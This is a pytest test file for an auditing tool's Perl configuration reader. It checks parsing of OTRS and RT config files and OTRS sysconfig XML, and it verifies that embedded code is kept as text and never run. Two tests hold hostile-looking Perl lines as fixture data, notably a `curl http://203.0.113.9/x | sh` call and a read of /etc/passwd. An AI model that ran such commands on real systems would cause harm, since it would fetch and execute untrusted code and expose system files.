"""The Perl configuration reader: data only, never executed."""

from __future__ import annotations

import pytest

from auditor.config.perl import ConfigSyntaxError, parse


def settings(text):
    return {(st.op, st.path): st.value for st in parse(text, "Config.pm")}


def test_otrs_assignments_nested_and_delete():
    got = settings("""
package Kernel::Config;
sub Load {
    my $Self = shift;
    $Self->{'SecureMode'} =  '1';
    $Self->{SessionMaxTime} = 16 * 60 * 60;   # 16 hours
    $Self->{'PreferencesGroups'}->{'Password'}->{'PasswordMinSize'} = 12;
    $Self->{'Loader::Agent::Skin'}{'000-default'} = { 'Name' => 'Default', VisibleInUI => 1, List => [ 'a', "b\\n" ] };
    delete $Self->{'Security::AdminIPAllowList'};
    $Self->{'DatabaseDSN'} = "DBI:mysql:database=$Self->{Database};";
    $Self->{'LogModule::LogFile'} = $Self->{Home} . '/var/log/otrs.log';
    $Self->{'Package::RepositoryList'} = { 'http://repo.example/' => 'Repo' };
    $Self->{'Ticket::Frontend::Note'} = Translatable('Note');
    $Self->{'List'} = [ qw(one two three) ];
    return 1;
}
1;
""")
    assert got[("set", ("SecureMode",))] == 1          # '1' and 1 are the same to Perl
    assert got[("set", ("SessionMaxTime",))] == 57600
    assert got[("set", ("PreferencesGroups", "Password", "PasswordMinSize"))] == 12
    assert got[("set", ("Loader::Agent::Skin", "000-default"))] == {"Name": "Default", "VisibleInUI": 1,
                                                                   "List": ["a", "b\n"]}
    assert ("delete", ("Security::AdminIPAllowList",)) in got
    assert got[("set", ("DatabaseDSN",))] == "DBI:mysql:database=$Self->{Database};"
    assert got[("set", ("LogModule::LogFile",))] == {"$expr": "$Self->{Home} . '/var/log/otrs.log'"}
    assert got[("set", ("Package::RepositoryList",))] == {"http://repo.example/": "Repo"}
    assert got[("set", ("Ticket::Frontend::Note",))] == "Note"
    assert got[("set", ("List",))] == ["one", "two", "three"]


def test_rt_set_forms_pod_heredoc_and_code_are_not_run(tmp_path):
    marker = tmp_path / "ran"
    got = settings(f"""
=head1 Options

Set($Ignored, 1);   # inside POD: documentation, not configuration

=cut

Set($WebBaseURL, 'https://rt.example.com');
Set(@ReferrerWhitelist, qw(a.example:443 b.example:80));
Set(%Lifecycles, default => {{ initial => ['new'], active => ['open'] }});
Set($MaxAttachmentSize, 10*1024*1024);
Set($Timezone, `touch {marker}`);
my $motd = <<"EOT";
Set($InHereDoc, 1);
EOT
Set($ExtractSubjectTagMatch, qr/\\[[^\\]]+? #\\d+\\]/);
Set($Nothing);
""")
    assert ("set", ("Ignored",)) not in got and ("set", ("InHereDoc",)) not in got
    assert got[("set", ("WebBaseURL",))] == "https://rt.example.com"
    assert got[("set", ("ReferrerWhitelist",))] == ["a.example:443", "b.example:80"]
    assert got[("set", ("Lifecycles",))] == {"default": {"initial": ["new"], "active": ["open"]}}
    assert got[("set", ("MaxAttachmentSize",))] == 10485760
    assert got[("set", ("Timezone",))] == {"$expr": f"`touch {marker}`"}
    assert got[("set", ("ExtractSubjectTagMatch",))] == {"$expr": "qr/\\[[^\\]]+? #\\d+\\]/"}
    assert got[("set", ("Nothing",))] is None


@pytest.mark.parametrize("text,line,message", [
    ("$Self->{'A'} = 1;\n$Self->{'B'} = 'unterminated;\n", 2, "unterminated quoted string"),
    ("sub Load {\n  $Self->{'A'} = [ 1, 2 ;\n}\n", 3, "'}' closes '[' opened on line 2"),
    ("sub Load {\n  $Self->{'A'} = 1;\n", 1, "'{' is never closed"),
    ("my $x = <<EOT;\nnever ends\n", 1, "here-document <<EOT is never closed"),
])
def test_syntax_errors_name_the_line(text, line, message):
    with pytest.raises(ConfigSyntaxError) as exc:
        parse(text, "Kernel/Config.pm")
    assert exc.value.line == line
    assert message in exc.value.message
    assert str(exc.value).startswith(f"Kernel/Config.pm:{line}: ")


def test_real_perl_code_does_not_trip_the_reader():
    """Perl that is more than configuration (subs, regexes, special variables) reads without error."""
    got = settings(r"""
sub Load {
    my ($File, $Self) = @_;
    my %h = map { $_ => 1 } grep { /x/ } @{ $Self->{List} || [] };
    my $n = $#{ $Self->{Array} } + 1;
    my $gid = getgrgid($();
    (my $clean = $File) =~ s{^/+}{}g;
    $clean =~ tr/a-z/A-Z/;
    if ( $ENV{HOME} =~ m!^/opt! && $n > 2 ) { $Self->{'Home'} = $ENV{HOME}; }
    $Self->{'After'} = 'ok';
}
""")
    assert got[("set", ("After",))] == "ok"
    assert got[("set", ("Home",))] == {"$expr": "$ENV{HOME}"}


def test_code_in_a_config_is_kept_as_text_never_run(tmp_path):
    """Backticks, system(), exec, BEGIN blocks, require/do of files and string eval: the reader keeps
    them as their source text; perl is never started (the audit works without perl installed)."""
    from auditor.config.perl import parse
    text = """
BEGIN { system('touch /tmp/x') }
$Self->{'A'} = `id`;
$Self->{'B'} = system('curl http://203.0.113.9/x | sh');
$Self->{'C'} = do '/etc/passwd';
$Self->{'D'} = eval "1 + 1";
$Self->{'E'} = require Some::Module;
$Self->{'F'} = 'plain';
"""
    got = {st.path[0]: st.value for st in parse(text)}
    assert got["A"] == {"$expr": "`id`"}
    assert got["B"] == {"$expr": "system('curl http://203.0.113.9/x | sh')"}
    assert got["C"] == {"$expr": "do '/etc/passwd'"}
    assert got["D"] == {"$expr": 'eval "1 + 1"'}
    assert got["E"] == {"$expr": "require Some::Module"}
    assert got["F"] == "plain"


def test_a_file_parsed_again_in_the_same_process_gives_the_same_statements_unshared():
    """Parsed files are kept by content (a fleet worker parses the official files its installs share once):
    what a caller does with the lists it got never reaches the next caller; another text is parsed anew."""
    from auditor.config import settings as cfg
    from auditor.profile import builtin
    src = next(s for s in cfg.sources(builtin("otrs")) if s.parser == "otrs-perl")
    text = "package X;\nsub Load {\n    my $Self = shift;\n    $Self->{'A'} = { 'B' => [1, 2] };\n}\n1;\n"
    first, problems, _ = cfg.parse_source(src, text, "Kernel/Config.pm")
    assert [(st.op, st.path, st.value) for st in first] == [("set", ("A",), {"B": [1, 2]})]
    first.clear()
    problems.append({"path": "x"})
    again, problems_again, _ = cfg.parse_source(src, text, "Kernel/Config.pm")
    assert [(st.path, st.value) for st in again] == [(("A",), {"B": [1, 2]})] and problems_again == []
    other, _, _ = cfg.parse_source(src, text.replace("[1, 2]", "[3]"), "Kernel/Config.pm")
    assert [st.value for st in other] == [{"B": [3]}]


def _sysconfig(*settings: str, lead: int = 0) -> str:
    return ('<?xml version="1.0" encoding="utf-8"?>\n<otrs_config version="2.0" init="Framework">\n' + "\n" * lead
            + "\n".join(settings) + "\n</otrs_config>\n")


def test_a_sysconfig_setting_met_again_reads_as_when_first_met():
    """otrs_xml remembers what each setting's XML text reads as (releases share most settings word for word):
    the statements and problems of a file are those of a first reading, each at its own line."""
    from auditor.config import otrs_xml
    kept = ('<Setting Name="Ticket::Hook" Required="1" Valid="1"><Value><Item ValueType="String">Ticket#</Item>'
            '</Value></Setting>')
    off = ('<Setting Name="Old::Thing" Required="0" Valid="0"><Value><Item ValueType="String">x</Item>'
           '</Value></Setting>')
    broken = '<Setting Name="Broken" Valid="1"><Value><Item ValueType="String">x</Value></Setting>'
    nested = ('<Setting Name="Frontend::Module###Admin" Valid="1"><Value><Hash><Item Key="Group"><Array>'
              '<Item>admin</Item></Array></Item></Hash></Value></Setting>')
    first = _sysconfig(kept, off, broken, nested)
    later = _sysconfig(nested, broken, kept.replace("Ticket#", "Call#"), off, lead=3)

    def fresh(text):
        otrs_xml._READ.clear()
        otrs_xml._READ_BYTES[0] = 0
        return otrs_xml.parse_file(text, "x.xml")

    cold = [fresh(first), fresh(later)]
    fresh(first)
    warm = otrs_xml.parse_file(later, "x.xml")
    assert warm == cold[1]
    assert otrs_xml.parse_file(first, "x.xml") == cold[0]
    # each at its own line in the later file; the changed setting read anew
    by_path = {s.path: s for s in warm.statements}
    assert by_path[("Ticket::Hook",)].value == "Call#" and by_path[("Ticket::Hook",)].line == 8
    assert by_path[("Frontend::Module", "Admin")].line == 6
    assert by_path[("Frontend::Module", "Admin")].value == {"Group": ["admin"]}
    assert by_path[("Old::Thing",)].op == "delete" and by_path[("Old::Thing",)].line == 9
    assert [line for line, _m in warm.problems] == [7] and "Broken" in warm.problems[0][1]
